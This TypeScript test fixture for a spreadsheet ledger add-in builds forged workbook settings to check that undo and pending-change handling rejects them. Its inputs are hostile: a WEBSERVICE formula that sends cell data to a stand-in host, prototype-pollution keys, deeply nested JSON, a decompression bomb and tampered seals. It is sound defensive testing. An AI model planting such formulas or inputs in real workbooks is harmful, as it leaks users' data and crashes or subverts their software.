import { deflateSync } from "fflate";
import { vouchFor, type Purpose } from "../../../src/workbook/kept/vouch";
import { deskComputer } from "../../support/desk-computer";

/** Settings somebody put into a workbook: texts, or whatever else a setting may hold. */
export type Forged = Readonly<Record<string, unknown>>;

export interface Forgery {
  readonly name: string;
  /** How it is said when the workbook is opened: asked about, passed over, or not worth a word. */
  readonly said: "asked" | "dropped" | "brings" | "unproven" | "nothing";
  readonly settings: () => Forged | Promise<Forged>;
}

/** What of a before-image differs between Excel and files. */
export interface Images {
  /** Cells that hold `after` now and would hold `before`. */
  readonly cells: (before: unknown, after: unknown, sheet?: string) => object;
  /** A sheet that would go, with the digest of what it holds. */
  readonly sheet: (name: string) => object;
  /** A sheet that would be written anew, with a formula in it. */
  readonly replaced: (name: string) => object;
  /** The clerk's own entry rule that would be taken away. */
  readonly rules: object;
  readonly marks: object;
}

export const Attack = '=WEBSERVICE("http://x.example/?"&A2)';
export const BookId = "a-workbook-of-the-clerk";

const key = (name: string): string => `taizhang.${name}`;
const json = JSON.stringify;

const image = (...parts: readonly unknown[]) => ({ version: 1, parts });
const entry = (...parts: readonly unknown[]) => ({
  operation: "fixSheet",
  at: "2024-05-31 09:30",
  sheets: ["台账"],
  before: image(...parts),
});
const journal = (...entries: readonly unknown[]): Forged => ({ [key("journal")]: json(entries) });
const pending = (parts: readonly unknown[], more: object = {}): Forged => ({
  [key("pending")]: json({ version: 1, change: "apply", image: image(...parts), ...more }),
});

/** What a computer seals for a workbook, with the settings that go with it. */
async function sealed(
  who: string,
  purpose: Purpose,
  payload: object,
  { book = BookId, here = false }: { readonly book?: string; readonly here?: boolean } = {},
): Promise<string> {
  const computer = deskComputer(who, { staysHere: () => Promise.resolve(here) });
  return vouchFor(computer, { known: () => book, make: () => undefined }).give(
    purpose,
    json(payload),
  );
}

const ofBook = (forged: Forged): Forged => ({ [key("book")]: BookId, ...forged });

const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text);

/** Nested deeper than any reader that calls itself may go. */
const deep = "[".repeat(200_000) + "]".repeat(200_000);

/** A text under `taizhang.pending` in pieces, as Excel's settings hold it. */
function inPieces(bytes: Uint8Array, change: (pieces: string[]) => unknown[] = (p) => p): Forged {
  const packed = Buffer.from(deflateSync(bytes, { level: 1 })).toString("base64");
  const pieces = packed.match(/.{1,32000}/g) ?? [];
  const kept = change([...pieces]);
  return {
    [key("pending")]: { parts: pieces.length, generation: "a" },
    ...Object.fromEntries(kept.map((piece, i) => [`${key("pending")}#a.${i}`, piece])),
  };
}

/** Forged undo steps: 撤销 must not do them. */
export function forgedJournals(images: Images): readonly Forgery[] {
  const { cells, sheet, replaced, rules, marks } = images;
  const good = entry(cells("李四", "张三"));
  const asked = (name: string, ...entries: readonly unknown[]): Forgery => ({
    name: `journal: ${name}`,
    said: "asked",
    settings: () => journal(...entries),
  });
  const dropped = (name: string, ...entries: readonly unknown[]): Forgery => ({
    ...asked(name, ...entries),
    said: "dropped",
  });
  return [
    asked("writes a formula that sends cells away", entry(cells(Attack, "张三"))),
    asked("writes over cells", entry(cells("李四", "张三"))),
    asked("writes over cells of another sheet", entry(cells("没事", "重要", "检查结果"))),
    asked("deletes the clerk's 检查结果", entry(sheet("检查结果"))),
    asked("deletes the ledger", entry(sheet("台账"))),
    asked("writes a sheet anew", entry(replaced("检查结果"))),
    asked("takes the clerk's entry rules away", entry(rules)),
    asked("takes marks away", entry(marks)),
    asked("all of it", entry(cells(Attack, "张三"), sheet("检查结果"), rules, marks)),
    asked("a sheet called constructor", entry(sheet("constructor"))),
    asked("after a good entry that is not ours", good, entry(sheet("台账"))),
    dropped("an operation there is not", { ...good, operation: "formatDisk" }),
    dropped("an operation named constructor", { ...good, operation: "constructor" }),
    dropped("no image", { ...good, before: null }),
    dropped("an image of another version", { ...good, before: { version: 2, parts: [] } }),
    dropped("parts that are no list", { ...good, before: { version: 1, parts: { length: 9 } } }),
    dropped("more parts than fit", entry(...Array.from({ length: 3_000 }, () => marks))),
    dropped("sheets that are no names", { ...good, sheets: [1, null] }),
    dropped("a time that is an object", { ...good, at: { toString: "x" } }),
    dropped("more entries than fit", ...Array.from({ length: 60 }, () => good)),
    dropped("entries that are lists", [], []),
    { name: "journal: not JSON", said: "dropped", settings: () => ({ [key("journal")]: "{[" }) },
    {
      name: "journal: an object",
      said: "dropped",
      settings: () => ({ [key("journal")]: '{"0":{}}' }),
    },
    { name: "journal: too deep", said: "dropped", settings: () => ({ [key("journal")]: deep }) },
    {
      name: "journal: __proto__ with what is missing",
      said: "dropped",
      settings: () => ({ [key("journal")]: `[{"__proto__":${json(good)}}]` }),
    },
    {
      name: "journal: sealed by a colleague's computer",
      said: "asked",
      settings: async () =>
        ofBook({
          [key("journal")]: `[${await sealed("colleague", "undo", entry(sheet("台账")))}]`,
        }),
    },
    {
      name: "journal: ours, but of another workbook",
      said: "asked",
      settings: async () =>
        ofBook({
          [key("journal")]: `[${await sealed("this-desk", "undo", good, { book: "another" })}]`,
        }),
    },
    {
      name: "journal: ours, the workbook's id taken away",
      said: "asked",
      settings: async () => ({
        [key("journal")]: `[${await sealed("this-desk", "undo", good)}]`,
      }),
    },
    {
      name: "journal: ours, the name of the sheet swapped",
      said: "asked",
      settings: async () => {
        const text = await sealed("this-desk", "undo", entry(sheet("检查结果")));
        return ofBook({ [key("journal")]: `[${text.replaceAll("检查结果", "台账")}]` });
      },
    },
    {
      name: "journal: ours, a cell changed",
      said: "asked",
      settings: async () => {
        const text = await sealed("this-desk", "undo", good);
        return ofBook({ [key("journal")]: `[${text.replace("李四", "王五")}]` });
      },
    },
    {
      name: "journal: ours, sealed as a note about an unfinished change",
      said: "asked",
      settings: async () =>
        ofBook({ [key("journal")]: `[${await sealed("this-desk", "pending", good)}]` }),
    },
    {
      name: "journal: an empty seal",
      said: "asked",
      settings: () => ofBook(journal({ ...good, seal: "" })),
    },
    {
      name: "journal: a seal that is no text",
      said: "asked",
      settings: () => ofBook(journal({ ...good, seal: { length: 44 } })),
    },
    {
      name: "journal: kept on a colleague's computer",
      said: "dropped",
      settings: async () =>
        ofBook({
          [key("journal")]: `[${await sealed("colleague", "undo", good, { here: true })}]`,
        }),
    },
    {
      name: "journal: said to be kept here, which it is not",
      said: "dropped",
      settings: () => ofBook(journal({ here: "this-desk-99999999" })),
    },
  ];
}

/** Forged notes about unfinished changes: opening must not do them. */
export function forgedPendings({
  cells,
  sheet,
  replaced,
  rules,
  marks,
}: Images): readonly Forgery[] {
  const good = [cells("李四", "张三")];
  const whole = { version: 1, change: "apply", image: image(...good) };
  const asked = (name: string, parts: readonly unknown[], more: object = {}): Forgery => ({
    name: `pending: ${name}`,
    said: "asked",
    settings: () => pending(parts, more),
  });
  const dropped = (name: string, parts: readonly unknown[], more: object = {}): Forgery => ({
    ...asked(name, parts, more),
    said: "dropped",
  });
  const raw = (name: string, value: unknown): Forgery => ({
    name: `pending: ${name}`,
    said: "dropped",
    settings: () => ({ [key("pending")]: value }),
  });
  const pieces = (name: string, change: (pieces: string[]) => unknown[]): Forgery => ({
    name: `pending: ${name}`,
    said: "dropped",
    settings: () => inPieces(bytesOf(json({ ...whole, filler: noise(60_000) })), change),
  });
  const end = (of: unknown) => ({ change: "restore", end: of });
  const [part] = good as [Record<string, unknown>];
  return [
    asked("writes a formula that sends cells away", [cells(Attack, "张三")]),
    asked("writes over cells", good),
    asked("deletes the clerk's 检查结果", [sheet("检查结果")]),
    asked("deletes the ledger", [sheet("台账")]),
    asked("writes a sheet anew", [replaced("检查结果")]),
    asked("completes an undo that deletes a sheet", [sheet("检查结果")], { change: "restore" }),
    asked("takes the clerk's entry rules away", [rules]),
    asked("takes marks away", [marks]),
    asked("turns the journal to a forged one", good, end({ key: key("journal"), value: "[]" })),
    dropped("writes another add-in's setting", good, end({ key: "other.addin", value: "x" })),
    dropped("takes another add-in's setting away", good, end({ key: "other.addin", value: null })),
    dropped("writes the rules of the township", good, end({ key: key("profile"), value: "{}" })),
    dropped("writes the list of own sheets", good, end({ key: key("owned"), value: '["台账"]' })),
    dropped(
      "turns to a journal of a billion pieces",
      good,
      end({ key: key("journal"), value: { parts: 1e9, generation: "a" } }),
    ),
    dropped("a change there is not", good, { change: "delete" }),
    dropped("of another version", good, { version: 9 }),
    dropped("an image without parts", [], { image: { version: 1 } }),
    dropped("parts of an unknown kind", [{ ...part, kind: "macro" }]),
    dropped("a row below zero", [{ ...part, cells: [[-1, 0, "李四", "张三", -1, -1]] }]),
    dropped("a row beyond the sheet", [{ ...part, cells: [[1e9, 0, "李四", "张三", -1, -1]] }]),
    dropped("a column that is a text", [{ ...part, cells: [[1, "A", "李四", "张三", -1, -1]] }]),
    dropped("a value that is an object", [{ ...part, cells: [[1, 0, {}, "张三", -1, -1]] }]),
    dropped("a text no cell can hold", [
      { ...part, cells: [[1, 0, "字".repeat(40_000), "张三", -1, -1]] },
    ]),
    dropped("a number format as long as a book", [{ ...part, formats: ["0".repeat(9_999)] }]),
    dropped("a sheet name as long as a book", [{ ...part, sheet: "表".repeat(9_999) }]),
    raw("not JSON", "{"),
    raw("null", "null"),
    raw("a number", 7),
    raw("too deep", deep),
    raw("__proto__ with what is missing", `{"__proto__":${json(whole)}}`),
    raw("a head of a billion pieces", { parts: 1e9, generation: "a" }),
    raw("a head of less than no pieces", { parts: -1, generation: "a" }),
    raw("a head of pieces there are not", { parts: 3, generation: "b" }),
    raw("a head of an unknown generation", { parts: 1, generation: "__proto__" }),
    pieces("a piece missing", (all) => all.slice(1)),
    pieces("a piece cut short", (all) => [...all.slice(0, -1), all.at(-1)?.slice(0, 5)]),
    pieces("a piece that is a number", (all) => [1, ...all.slice(1)]),
    pieces("pieces that are no base64", (all) => all.map(() => "。".repeat(100))),
    {
      name: "pending: a few bytes that unpack to 80 MB",
      said: "dropped",
      settings: () => inPieces(new Uint8Array(80_000_000).fill(0x20)),
    },
    {
      name: "pending: sealed by a colleague's computer",
      said: "asked",
      settings: async () =>
        ofBook({
          [key("pending")]: await sealed("colleague", "pending", {
            ...whole,
            image: image(sheet("检查结果")),
          }),
        }),
    },
    {
      name: "pending: ours, but of another workbook",
      said: "asked",
      settings: async () =>
        ofBook({
          [key("pending")]: await sealed("this-desk", "pending", whole, { book: "another" }),
        }),
    },
    {
      name: "pending: ours, the name of the sheet swapped",
      said: "asked",
      settings: async () => {
        const payload = { ...whole, image: image(sheet("汇总")) };
        const text = await sealed("this-desk", "pending", payload);
        return ofBook({ [key("pending")]: text.replaceAll("汇总", "检查结果") });
      },
    },
    {
      name: "pending: an undo step of ours",
      said: "asked",
      settings: async () => ofBook({ [key("pending")]: await sealed("this-desk", "undo", whole) }),
    },
    {
      name: "pending: said to be kept here, which it is not",
      said: "dropped",
      settings: () => ofBook({ [key("pending")]: '{"here":"this-desk-99999999"}' }),
    },
  ];
}

/** Forged settings that change no cell but what is read and counted. */
export const forgedSettings: readonly Forgery[] = (
  [
    ["owned: the clerk's 检查结果", "unproven", { owned: '["检查结果"]' }],
    ["owned: the ledger", "unproven", { owned: '["台账"]' }],
    ["owned: every sheet", "unproven", { owned: '["台账","检查结果","汇总"]' }],
    ["owned: an object", "dropped", { owned: '{"台账":true}' }],
    ["owned: names that are none", "dropped", { owned: '[["台账"],1]' }],
    ["owned: a name as long as a book", "dropped", { owned: json(["表".repeat(9_999)]) }],
    ["owned: more names than sheets fit", "dropped", { owned: json(Array(5_000).fill("台账")) }],
    ["owned: constructor", "nothing", { owned: '["constructor","__proto__"]' }],
    ["columns: too deep", "dropped", { columns: deep }],
    ["columns: a list", "dropped", { columns: "[1,2]" }],
    ["columns: of __proto__", "brings", { columns: '{"__proto__":{"A":"status"}}' }],
    ["columns: of constructor", "brings", { columns: '{"constructor":{"A":"status"}}' }],
    ["columns: a letter there is not", "dropped", { columns: '{"台账":{"prototype":"status"}}' }],
    ["columns: fields that are objects", "dropped", { columns: '{"台账":{"A":{"x":1}}}' }],
    ["columns: a field named toString", "brings", { columns: '{"台账":{"A":"toString"}}' }],
    ["columns: five megabytes", "dropped", { columns: json({ 台账: { A: "x".repeat(5e6) } }) }],
    ["kinds: a list", "dropped", { kinds: '["dispute"]' }],
    ["kinds: of __proto__", "nothing", { kinds: '{"__proto__":"constructor"}' }],
    ["kinds: objects", "dropped", { kinds: '{"台账":{}}' }],
    ["ignored: an object", "dropped", { ignored: '{"length":3}' }],
    ["ignored: without a cell", "dropped", { ignored: '[{"sheet":"台账"}]' }],
    [
      "ignored: a cell that is none",
      "dropped",
      { ignored: json([{ ...ignoredOne(), cell: "=A1" }]) },
    ],
    ["ignored: more than fit", "dropped", { ignored: json(Array(30_000).fill(ignoredOne())) }],
    ["profile: a number", "dropped", { profile: "7" }],
    ["profile: unknown keys", "dropped", { profile: '{"version":1,"eval":"x"}' }],
    ["profile: __proto__", "dropped", { profile: '{"version":1,"__proto__":{"decimals":9}}' }],
    ["profile: too deep", "dropped", { profile: deep }],
    ["profile: wrong types", "dropped", { profile: '{"version":1,"decimals":"两位"}' }],
  ] as const
).map(([name, said, settings]): Forgery => ({
  name,
  said,
  settings: () =>
    Object.fromEntries(Object.entries(settings).map(([one, text]) => [key(one), text])),
}));

function ignoredOne() {
  return { sheet: "台账", code: "phone-invalid", cell: "A1", value: 1, reason: "", at: "" };
}

/** Letters that pack badly, the same every time. */
function noise(length: number): string {
  let seed = 7;
  return Array.from({ length }, () => {
    seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
    return String.fromCharCode(0x4e00 + (seed % 20_000));
  }).join("");
}
